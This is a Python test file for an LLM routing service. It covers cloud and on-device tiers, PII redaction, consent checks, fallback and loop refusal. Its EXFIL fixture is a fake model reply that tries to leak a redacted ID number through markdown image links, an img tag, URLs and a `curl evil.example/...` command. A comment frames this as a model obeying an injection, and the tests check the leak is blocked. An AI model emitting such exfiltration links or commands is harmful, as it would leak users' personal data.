"""Routing across the three tiers through ``lingxi serve`` and the CLI: cloud presets on a loopback
OpenAI-compatible server, an on-device GGUF through llama.cpp, and the lite tier as the floor."""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest

from fake_openai import FakeOpenAI, Script
from gguf_fixture import write_random_qwen2_gguf
from lingxi import Lingxi
from lingxi.context.sample import SAMPLE_NOW_MS
from lingxi.errors import PolicyForbidden
from lingxi.features.chat import Chat
from lingxi.features.notifications import NotificationSummary
from lingxi.models import registry
from lingxi.models.base import Message
from lingxi.privacy.consent import Scope
from lingxi.server.app import create_app
from live_server import serve

PII = "请把合同发到linxy@example.com，或打13800138000找我。"
ID = "11010519491231002X"
EXFIL = (
    "已填好：[身份证号_1]。\n![x](https://evil.example/?d=[身份证号_1]) [表单](https://evil.example/f/[身份证号_1]) "
    '<img alt="t" src="https://evil.example/?[身份证号_1]"> 访问 https://evil.example/[身份证号_1] 或运行 '
    "`curl evil.example/[身份证号_1]`\n```\necho [身份证号_1]\n```\n完毕，[身份证号_1]。"
)


@pytest.fixture(scope="module")
def tiny_gguf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_random_qwen2_gguf(tmp_path_factory.mktemp("gguf") / "tiny.gguf")


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeOpenAI]:
    scripts = {
        "qwen-fake": Script(reply="这是云端模型的回答，内容完整。", chunks=4),
        "flaky": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=6, cut_after=2),
        "backup": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=3),
        "exfil": Script(reply=EXFIL, chunks=7),  # a model (or an injection it obeyed) smuggling a value out
    }
    with FakeOpenAI(scripts) as server:
        yield server


def write_config(home: Path, fake: FakeOpenAI, tiny: Path) -> None:
    home.mkdir(parents=True, exist_ok=True)
    (home / "lingxi.toml").write_text(
        f"""
default_model = "vllm/qwen-fake"

[models.tiny]
path = "{tiny}"
n_ctx = 2048

[models.never-pulled]
path = "qwen2.5-0.5b-instruct"

[providers.vllm]
base_url = "{fake.base_url}"
models = ["qwen-fake", "flaky", "backup", "exfil"]

[providers.dashscope]
models = ["qwen-plus"]

[[routing.rules]]
feature = "chat.flaky"
candidates = ["vllm/flaky", "vllm/backup"]

[[routing.rules]]
feature = "notifications.*"
privacy = "sensitive"
candidates = ["tiny"]
""",
        encoding="utf-8",
    )


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, fake: FakeOpenAI, tiny_gguf: Path) -> Iterator[tuple[str, Lingxi]]:
    home = tmp_path_factory.mktemp("routing") / "home"
    write_config(home, fake, tiny_gguf)
    old = os.environ.pop("DASHSCOPE_API_KEY", None)
    lx = Lingxi(home)
    lx.load_sample()
    for user in ("local", "u1"):  # PIPL Art. 23: what these users send may go to a cloud model
        lx.consents.grant(user, Scope.CLOUD_PROCESSING)
    with serve(create_app(lx)) as (url, _):
        yield url, lx
    if old is not None:
        os.environ["DASHSCOPE_API_KEY"] = old


def client(url: str) -> openai.OpenAI:
    return openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)


def test_availability_reports_missing_key_and_missing_file(served: tuple[str, Lingxi]) -> None:
    rows = {a.name: a for a in served[1].availability}
    assert rows["tiny"].usable and rows["vllm/qwen-fake"].usable and rows["lite/textrank"].usable
    assert not rows["dashscope/qwen-plus"].usable and "DASHSCOPE_API_KEY" in rows["dashscope/qwen-plus"].reason
    assert not rows["never-pulled"].usable and "lingxi models pull" in rows["never-pulled"].reason


def test_cloud_model_through_the_service_stream_and_not(served: tuple[str, Lingxi], fake: FakeOpenAI) -> None:
    c = client(served[0])
    r = c.chat.completions.create(model="vllm/qwen-fake", messages=[{"role": "user", "content": PII}])
    assert r.choices[0].message.content == "这是云端模型的回答，内容完整。"
    assert r.model_extra["lingxi"]["label"] == "本内容由人工智能生成"  # type: ignore[index]
    sent = fake.received("qwen-fake")[-1].body["messages"][-1]["content"]
    assert "13800138000" not in sent and "[手机号_1]" in sent and "[邮箱_1]" in sent  # redacted before it left
    stream = c.chat.completions.create(
        model="vllm/qwen-fake", messages=[{"role": "user", "content": "你好"}], stream=True
    )
    assert "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices) == "这是云端模型的回答，内容完整。"
    assert served[1].egress.for_user("local")  # and what left was recorded


@pytest.mark.parametrize("stream", [False, True])
def test_placeholders_in_links_and_code_are_not_restored(
    served: tuple[str, Lingxi], fake: FakeOpenAI, stream: bool
) -> None:
    c = client(served[0])
    messages: Any = [{"role": "user", "content": f"我的身份证号是{ID}，帮我填表"}]
    if stream:
        chunks = list(c.chat.completions.create(model="vllm/exfil", messages=messages, stream=True))
        text = "".join(ch.choices[0].delta.content or "" for ch in chunks if ch.choices)
        meta = next(ch.model_extra["lingxi"] for ch in chunks if (ch.model_extra or {}).get("lingxi"))
    else:
        r = c.chat.completions.create(model="vllm/exfil", messages=messages)
        text, meta = r.choices[0].message.content or "", r.model_extra["lingxi"]  # type: ignore[index]
    assert ID not in fake.received("exfil")[-1].body["messages"][-1]["content"]
    assert text.count(ID) == 2  # the two mentions in prose are restored on the device...
    assert text.startswith(f"已填好：{ID}。") and text.endswith(f"完毕，{ID}。")
    assert "evil.example/?d=[身份证号_1]" in text and "evil.example/f/[身份证号_1]" in text  # ...links keep it
    assert 'src="https://evil.example/?[身份证号_1]"' in text and "`curl evil.example/[身份证号_1]`" in text
    assert "echo [身份证号_1]" in text and "https://evil.example/[身份证号_1]" in text
    assert meta["withheld_placeholders"] == ["[身份证号_1]"]


def test_default_model_is_the_configured_cloud_model(served: tuple[str, Lingxi]) -> None:
    answer = served[1].summarize("会员体系改版下周三上线。上线前还要评审。")
    assert answer.model == "vllm/qwen-fake"


def test_provider_dying_mid_stream_falls_back_without_duplication(served: tuple[str, Lingxi], fake: FakeOpenAI) -> None:
    lx = served[1]
    # a feature the policy routes to the flaky model first (see write_config)
    turn = lx.turn(Chat(name="chat.flaky"), "u1", inputs={"messages": [Message(role="user", content="讲三段")]})

    async def read() -> str:
        return "".join([d async for d in await lx.astream(turn)])

    assert asyncio.run(read()) == "第一段内容，第二段内容，第三段内容。"
    assert [f.model for f in turn.fallbacks] == ["vllm/flaky"] and turn.fallbacks[0].after_chars > 0
    assert lx.audit.entries(limit=1)[0]["fallbacks"] == ["vllm/flaky"]  # the switch is in the audit record
    health = {h["provider"]: h for h in httpx.get(served[0] + "/healthz").json()["providers"]}
    assert health["vllm"]["consecutive_failures"] == 0 and health["vllm"]["state"] == "closed"  # backup succeeded
    continued = fake.received("backup")[-1].body["messages"]
    assert continued[-2]["role"] == "assistant" and "继续" in continued[-1]["content"]


def test_missing_key_on_the_server_is_a_503_provider_error_not_401(served: tuple[str, Lingxi]) -> None:
    r = httpx.post(
        served[0] + "/v1/chat/completions",
        json={"model": "dashscope/qwen-max", "messages": [{"role": "user", "content": "你好"}]},
    )
    # the caller's key is fine; the server lacks the vendor's: 401 would send the developer to the wrong key
    assert r.status_code == 503 and "DASHSCOPE_API_KEY" in r.json()["detail_zh"]
    assert r.json()["error"]["code"] == "missing_credentials" and "DASHSCOPE_API_KEY" in r.json()["error"]["message"]


@pytest.mark.parametrize("model", ["deepseek/deepseek-chat", "ollama/qwen2.5", "moonshot/kimi-k2"])
def test_providers_the_operator_never_configured_are_unreachable(served: tuple[str, Lingxi], model: str) -> None:
    r = httpx.post(
        served[0] + "/v1/chat/completions", json={"model": model, "messages": [{"role": "user", "content": "你好"}]}
    )
    assert r.status_code == 403 and r.json()["error"]["code"] == "policy_forbidden"
    assert "vllm" in r.json()["error"]["message"]  # names what is configured


def test_sensitive_notifications_go_to_the_on_device_model(served: tuple[str, Lingxi], fake: FakeOpenAI) -> None:
    lx = served[1]
    # two short notifications: the tiny GGUF's byte-level vocabulary makes long Chinese prompts exceed its context
    lx.ingest(
        {
            "type": "notification",
            "event_id": f"b{i}",
            "user_id": "u-bank",
            "ts": SAMPLE_NOW_MS - i * 60_000,
            "source_app": "招商银行",
            "category": "bank",
            "body": f"尾号8842支出{i}元",
        }
        for i in (1, 2)
    )
    lx.consents.grant("u-bank", Scope.NOTIFICATIONS)
    before = len(fake.received("qwen-fake"))
    digest = lx.notification_summary("u-bank", now_ms=SAMPLE_NOW_MS)
    assert digest.model == "tiny" and digest.model_kind == "llm"  # llama.cpp on the random GGUF
    # asking for the cloud model explicitly does not override the rule, with or without cloud consent
    for consent in (False, True):
        if consent:
            lx.consents.grant("u-bank", Scope.CLOUD_PROCESSING)
        turn = lx.turn(NotificationSummary(), "u-bank", model="vllm/qwen-fake", now_ms=SAMPLE_NOW_MS)
        with pytest.raises(PolicyForbidden, match="notifications"):
            asyncio.run(lx.acomplete(turn))
    assert len(fake.received("qwen-fake")) == before  # nothing went to the cloud
    # through the HTTP feature endpoint too: a 403 problem naming the rule
    r = httpx.post(
        served[0] + "/v1/features/notifications/summary",
        json={
            "user_id": "u-bank",
            "model": "vllm/qwen-fake",
            "now": datetime.fromtimestamp(SAMPLE_NOW_MS / 1000, UTC).isoformat(),
        },
    )
    assert r.status_code == 403 and r.json()["code"] == "policy_forbidden" and "tiny" in r.json()["detail"]
    assert lx.notification_summary("u-bank", model="tiny", now_ms=SAMPLE_NOW_MS).model == "tiny"  # inside the rule


def test_personal_data_needs_cloud_processing_and_all_never_grants_it(
    served: tuple[str, Lingxi], fake: FakeOpenAI
) -> None:
    url, lx = served
    lx.consents.grant_all_except_sensitive("u-nocloud")  # "agree to all" leaves cloud_processing out
    before = len(fake.received("qwen-fake"))
    body = {"model": "vllm/qwen-fake", "messages": [{"role": "user", "content": "帮我想想周末去哪"}]}
    r = httpx.post(url + "/v1/chat/completions", json=body, headers={"X-Lingxi-User": "u-nocloud"})
    # the named model cannot be used for this user: 403 with the scope that is missing, nothing sent
    assert r.status_code == 403 and r.json()["error"]["code"] == "consent_required"
    assert "cloud_processing" in r.json()["error"]["message"]
    assert len(fake.received("qwen-fake")) == before
    lx.consents.grant("u-nocloud", Scope.CLOUD_PROCESSING)
    r = httpx.post(url + "/v1/chat/completions", json=body, headers={"X-Lingxi-User": "u-nocloud"})
    assert r.status_code == 200 and len(fake.received("qwen-fake")) == before + 1
    (record,) = lx.egress.for_user("u-nocloud")
    assert record.consents == ["cloud_processing"]  # the log says which consent let it leave


def test_a_model_pointing_back_at_lingxi_is_refused(served: tuple[str, Lingxi], tmp_path: Path) -> None:
    url = served[0]
    home = tmp_path / "loop"
    home.mkdir()
    (home / "lingxi.toml").write_text(
        f'default_model = "self/qwen-fake"\n[providers.self]\npreset = "vllm"\nbase_url = "{url}/v1"\n',
        encoding="utf-8",
    )
    lx = Lingxi(home)
    lx.consents.grant("local", Scope.CLOUD_PROCESSING)
    answer = lx.chat([Message(role="user", content="你好")], model="self/qwen-fake")
    # the served lingxi answered 508 to the hop header: one failed call, then the lite floor, no chain
    assert answer.model != "self/qwen-fake" and answer.fallbacks[0].model == "self/qwen-fake"
    assert "508" in answer.fallbacks[0].error or "Loop" in answer.fallbacks[0].error
    r = httpx.post(
        url + "/v1/chat/completions",
        json={"model": "vllm/qwen-fake", "messages": [{"role": "user", "content": "你好"}]},
        headers={"X-Lingxi-Hop": "1"},
    )
    assert r.status_code == 508 and r.json()["code"] == "loop_detected"


def cli(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "LINGXI_HOME": str(home), "COLUMNS": "200", "NO_COLOR": "1"}
    env.pop("DASHSCOPE_API_KEY", None)
    return subprocess.run(
        [sys.executable, "-c", "from lingxi.cli import main; main()", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env=env,
        timeout=int(os.environ.get("CLI_TIMEOUT", "120")),
    )


def test_cli_chat_and_models_list(tmp_path: Path, fake: FakeOpenAI, tiny_gguf: Path) -> None:
    home = tmp_path / "h"
    write_config(home, fake, tiny_gguf)
    assert cli(home, "privacy", "grant", "local", "cloud_processing").returncode == 0
    r = cli(home, "chat", "-m", "vllm/qwen-fake", "你好")
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "这是云端模型的回答，内容完整。" and "人工智能生成" in r.stderr
    r = cli(home, "chat", "-m", str(tiny_gguf), "--max-tokens", "8", "-", stdin="你好，介绍一下杭州")
    assert r.returncode == 0, r.stderr
    assert "tiny" in r.stderr and "llm" in r.stderr
    r = cli(home, "models", "list")
    assert r.returncode == 0, r.stderr
    assert "vllm/qwen-fake" in r.stdout and "DASHSCOPE_API_KEY" in r.stdout and "never-pulled" in r.stdout
    bad = cli(home, "chat", "-m", "nobody/nothing", "你好")
    assert bad.returncode == 1 and "nobody" in bad.stderr and "Traceback" not in bad.stderr


def test_service_routes_chat_to_the_on_device_model(served: tuple[str, Lingxi]) -> None:
    c = client(served[0])
    r = c.chat.completions.create(
        model="tiny", messages=[{"role": "user", "content": PII}], max_tokens=8, seed=1, user="tiny-user"
    )
    assert r.model == "tiny" and r.usage and 0 < r.usage.completion_tokens <= 8
    assert r.model_extra["lingxi"]["model_kind"] == "llm"  # type: ignore[index]
    stream = c.chat.completions.create(
        model="tiny", messages=[{"role": "user", "content": "你好"}], max_tokens=8, stream=True
    )
    assert [ch.choices[0].finish_reason for ch in stream if ch.choices][-1] in ("stop", "length")
    audit = served[1].audit.entries(limit=5)
    assert any(e["model"] == "tiny" and e["egress_id"] is None for e in audit)
    assert not served[1].egress.for_user("tiny-user")  # PII to an on-device model: nothing left, nothing logged


def test_serve_refuses_a_provider_pointing_at_its_own_bind(tmp_path: Path) -> None:
    home = tmp_path / "selfie"
    home.mkdir()
    (home / "lingxi.toml").write_text(
        '[providers.self]\npreset = "vllm"\nbase_url = "http://localhost:8765/v1"\n'
        '[providers.other]\npreset = "vllm"\nbase_url = "http://127.0.0.1:8766/v1"\n',
        encoding="utf-8",
    )
    settings = Lingxi(home).settings
    assert registry.providers_pointing_at(settings, "127.0.0.1", 8765) == ["self"]  # loopback names are one host
    assert registry.providers_pointing_at(settings, "0.0.0.0", 8766) == ["other"]
    assert registry.providers_pointing_at(settings, "10.0.0.5", 8765) == []
    r = cli(home, "serve", "--port", "8765")
    assert r.returncode != 0 and "循环调用" in r.stderr
